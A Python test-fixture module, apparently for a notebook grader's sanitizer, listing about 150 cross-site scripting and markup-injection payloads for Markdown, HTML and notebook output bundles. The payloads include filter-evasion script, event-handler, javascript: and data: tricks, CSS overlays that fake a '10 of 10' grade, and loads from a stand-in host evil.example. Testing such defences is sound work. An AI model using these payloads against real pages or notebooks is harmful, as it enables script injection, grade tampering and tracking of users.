"""Attacks through markup in a notebook, which would act when somebody opens the notebook.

``JS`` stands for code that adds a mark to the title of the page; each attack has its own mark.
"""

from __future__ import annotations

import base64
from typing import Any

PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP8z8DAwMDAxMDAwMDAAAANHQEDasKb"
    "6QAAAABJRU5ErkJggg=="
)


def script(number: int) -> str:
    """Return code that marks the page, without quotation marks and angle brackets."""
    return f"top.document.title+=/hit{number};/.source"


SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="JS" width="9" height="9"><script>JS</script></svg>'


def _data(kind: str, text: str) -> str:
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


#: Markup for Markdown cells, HTML outputs and Markdown outputs.
MARKUP = [
    "<script>JS</script>",
    "<SCRIPT >JS</SCRIPT\t>",
    "<scr<script></script>ipt>JS</scr</script>ipt>",
    '<script src="http://evil.example/x.js"></script>',
    "<script type=module>JS</script>",
    "<img src=x onerror=JS>",
    "<IMG SRC=x OnErRoR='JS'>",
    '<img src="x"onerror="JS">',
    "<img/src=x/onerror=JS>",
    "<img src=x onerror=&#116;op.document.title+=/hitNN;/.source>",
    '<img alt="<b" src=x onerror=JS title=">">',
    "<svg onload=JS></svg>",
    "<svg><script>JS</script></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:JS'><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=JS></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=JS&gt;'>",
    "<math><maction actiontype='statusline#x' xlink:href='javascript:JS'>x</maction></math>",
    "<iframe src='javascript:JS'></iframe>",
    "<iframe srcdoc='<script>JS</script>'></iframe>",
    "<object data='javascript:JS'></object>",
    "<object data='DATAHTML'></object>",
    "<embed src='DATAHTML'>",
    "<a href='javascript:JS'>x</a>",
    "<a href='JaVaScRiPt:JS'>x</a>",
    "<a href='java&#10;script:JS'>x</a>",
    "<a href='&#106;avascript:JS'>x</a>",
    "<a href='&#x01;javascript:JS'>x</a>",
    "<a href='vbscript:JS'>x</a>",
    "<a href='DATAHTML'>x</a>",
    "<a href='evil.html'>a file of mine, from the formgrader's own address</a>",
    "<a href='//evil.example/'>x</a>",
    "<form action='javascript:JS'><input type=submit id=go></form>",
    "<form id=f></form><button form=f formaction='javascript:JS'>x</button>",
    "<input autofocus onfocus=JS>",
    "<details open ontoggle=JS>x</details>",
    "<video src=x onerror=JS></video>",
    "<audio src=x onerror=JS></audio>",
    "<video><source onerror=JS></video>",
    "<body onload=JS>",
    "<marquee onstart=JS>x</marquee>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=JS>x</p>",
    "<style>body{display:none}</style>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'>",
    "<img src='http://evil.example/seen.png'>",
    "<img srcset='http://evil.example/seen.png 1x' src='http://evil.example/a.png'>",
    "<img src='/formgrader/api/grades?x=1.png'>",
    "<img src='../../../../api/x.png'>",
    "<table background='http://evil.example/seen.png'><tr><td>x</td></tr></table>",
    "<p style='background:url(http://evil.example/x.png)'>x</p>",
    "<p style='background:u\\72l(http://evil.example/x.png)'>x</p>",
    "<p style='background:/**/url(http://evil.example/x.png)'>x</p>",
    "<p style='background-image:image-set(\"http://evil.example/x.png\" 1x)'>x</p>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:white'>10 of 10</div>",
    "<div style='color:red;POSITION : absolute;z-index:9'>x</div>",
    "<div style='margin-top:-500px;background:white'>x</div>",
    "<div style='margin:-9e2px'>x</div>",
    "<div style='transform:translateY(-100px) scale(9)'>x</div>",
    "<div style='height:0'><div style='background:white;padding:300px'>x</div></div>",
    "<div style='box-shadow:0 0 0 9999px white'>x</div>",
    "<div style='outline:900px solid white'>x</div>",
    "<div class='modal fade in' style='display:block'>x</div>",
    "<div class='navbar-fixed-top'>x</div>",
    "<a data-toggle='tooltip' data-html='true' title='x' data-template='<img src=x onerror=JS>'>x</a>",
    "<div id='statusmessage' name='submission_id'>x</div>",
    "<template><script>JS</script></template><noscript><p title='</noscript><img src=x onerror=JS>'>",
    "<textarea></textarea><title></title><img src=x onerror=JS>",
    "<xmp><p title='</xmp><img src=x onerror=JS>'>",
    "<!--><img src=x onerror=JS>-->",
    "<!-- --!><img src=x onerror=JS> -->",
    "<![CDATA[><img src=x onerror=JS>]]>",
    "<?xml <img src=x onerror=JS>?>",
    "<select><style></select><img src=x onerror=JS></style>",
    "<p id='</p><script>JS</script>'>x",
    "<x onclick=JS tabindex=1 autofocus onfocus=JS>x</x>",
    "<portal src='javascript:JS'></portal>",
    "<img src='DATASVG' usemap='#m'><map name=m><area href='javascript:JS'></map>",
    "<img src='data:text/html,<script>JS</script>'>",
    "$\\href{javascript:JS}{x}$",
    "$\\hr<!-- -->ef{javascript:JS}{x}$",
    "$$\n\\require{html}\\style{position:fixed;top:0}{x}\n$$",
    "$\\unicode[serif,url(http://evil.example/)]{x41}\\cssId{go}{\\class{modal}{x}}$",
    "$\\htmlStyle{position:fixed}{x} \\htmlData{x=1}{x} \\includegraphics{http://evil.example/x.png}$",
    "<b>&#92;href{javascript:JS}{x}</b>",
    "$\\bbox[border:1px solid;position:fixed]{x}$",
]

#: Attacks that only work in Markdown.
MARKDOWN = [
    "[x](javascript:JS)",
    "[x](<java\tscript:JS>)",
    "[x](&#106;avascript:JS)",
    '[x](JAVASCRIPT:JS "title")',
    "[x](DATAHTML)",
    "[x][r]\n\n[r]: javascript:JS",
    "[r]\n\n[R]:\n   javascript:JS\n   'title'",
    "<javascript:JS>",
    "![x](javascript:JS)",
    "![x](http://evil.example/seen.png)",
    "![x][r]\n\n[r]: http://evil.example/seen.png",
    '![x](x"onerror="JS)',
    '![x" onerror="JS](x)',
    '[x](https://example.org/" onmouseover="JS)',
    "[a file of mine](evil.html)",
    "[my work](./evil.html?x)",
    "![x](attachment:not-there.png)",
    "# <img src=x onerror=JS>\n",
    "## x <svg/onload=JS>",
    "- <img src=x onerror=JS>\n- b",
    "> <img src=x onerror=JS>",
    "| a |\n|---|\n| <img src=x onerror=JS> |",
    "`` ` `` <img src=x onerror=JS> ``",
    "`<b>` <img src=x onerror=JS> `</b>`",
    '```html" onclick="JS\nx\n```\n<img src=x onerror=JS>',
    "```mermaid\n</pre><img src=x onerror=JS>\n```",
    "```mermaid\ngraph TD; a --> b; click a call JS\n```",
    "~~~\n<b>\n~~~~\n<img src=x onerror=JS>",
    "    x\n\n<div>\n\n<img src=x\nonerror=JS>\n\n</div>",
    "$$ a $$ <img src=x onerror=JS> $$ b $$",
    "$a$<img src=x onerror=JS>$b$",
    "\\begin{x}\n</p><script>JS</script>\n\\end{y}",
    "$`<img src=x onerror=JS>`$",
    "\\<script>JS\\</script>",
    "&lt;script&gt;JS&lt;/script&gt; <script>JS</script>",
    "<div\n\nonclick=1>\n<img src=x onerror=JS>",
    "[![x](DATASVG)](javascript:JS)",
    "\u202e<img src=x onerror=JS>",
    "<scr\u0000ipt>JS</scr\u0000ipt><img src=x\u000conerror=JS>",
]

#: Attacks through other outputs: their data and metadata.
BUNDLES: list[tuple[dict[str, Any], dict[str, Any]]] = [
    ({"application/javascript": "JS"}, {}),
    ({"text/javascript": "JS", "text/plain": "x"}, {}),
    ({"image/svg+xml": SVG}, {}),
    ({"image/svg+xml": SVG.replace("<script>JS</script>", "<foreignObject><p>x</p></foreignObject>")}, {}),
    ({"image/png": f'{PNG}"><img src=x onerror=JS>'}, {}),
    ({"image/png": PNG}, {"image/png": {"width": "1 onload=JS", "unconfined": True}}),
    ({"image/jpeg": 'x" onerror="JS'}, {}),
    ({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>JS</script>"}}, {}),
    ({"text/vnd.mermaid": "</pre><script>JS</script>"}, {}),
    ({"application/vnd.vega.v5+json": {"data": [{"url": "http://evil.example/"}]}}, {}),
    ({"application/pdf": "JVBERi0="}, {}),
    ({"text/latex": "$\\href{javascript:JS}{x}$ <script>JS</script>"}, {}),
    ({"text/html": ["<script>", "JS</script>"]}, {"text/html": {"isolated": True}}),
    ({"text/html; charset=utf-8": "<script>JS</script>"}, {}),
    ({"application/geo+json": {}, "application/json": {"<script>": "JS"}}, {}),
    ({"<script>JS</script>": "x"}, {}),
]


def filled(thing: Any, number: int) -> Any:
    """Return an attack with the code for its number inserted."""
    if isinstance(thing, dict):
        return {filled(key, number): filled(value, number) for key, value in thing.items()}
    if isinstance(thing, list):
        return [filled(value, number) for value in thing]
    if not isinstance(thing, str):
        return thing
    code = script(number)
    thing = thing.replace("DATAHTML", _data("text/html", f"<script>{code}</script>"))
    thing = thing.replace("DATASVG", _data("image/svg+xml", SVG.replace("JS", code)))
    return thing.replace("JS", code).replace("hitNN", f"hit{number}")
